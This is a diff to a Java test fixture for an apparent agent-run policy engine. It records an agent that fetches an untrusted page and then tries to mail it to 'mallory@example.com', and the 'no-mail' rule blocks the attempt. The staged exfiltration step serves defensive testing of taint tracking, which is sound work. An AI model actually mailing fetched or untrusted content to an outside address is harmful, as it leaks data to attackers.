@@ -46,7 +46,7 @@ class FollowedRunTest {
         Verdict verdict = new Verdict("no-mail", "1", Action.BLOCK, Mode.ENFORCE, "Words from outside\nmay not be mailed.", List.of());
         return new RecordedRun(new Run(RUN, null, null, null, Status.OK, null, null, Map.of()), List.of(
                 step(1, Operation.TOOL_CALL, "fetch", Map.of("url", "http://example.com"), List.of(), null, outcome(1, Status.OK, PAGE, "untrusted")),
-                step(2, Operation.MODEL_CHAT, "gpt", Map.of("messages", List.of(Map.of("role", "user", "content", "Read the page.\nThen mail it."), Map.of("role", "tool", "content", PAGE),
+                step(2, Operation.MODEL_CHAT, "gpt", Map.of("messages", List.of(Map.of("role", "user", "content", "Read the page.\nThen mail it."), Map.of("role", "tool", "text", PAGE),
                         Map.of("role", "assistant", "content", "x".repeat(1_000)))), List.of(), null, null),
                 step(3, Operation.TOOL_CALL, "mail", Map.of("to", "mallory@example.com"), List.of(new Link(new StepId(1), LinkKind.TOKEN_MATCH, "to")),
                         new Decision(6, null, "b", null, Set.of("untrusted"), List.of(verdict), List.of()), outcome(3, Status.BLOCKED, null))), List.of());
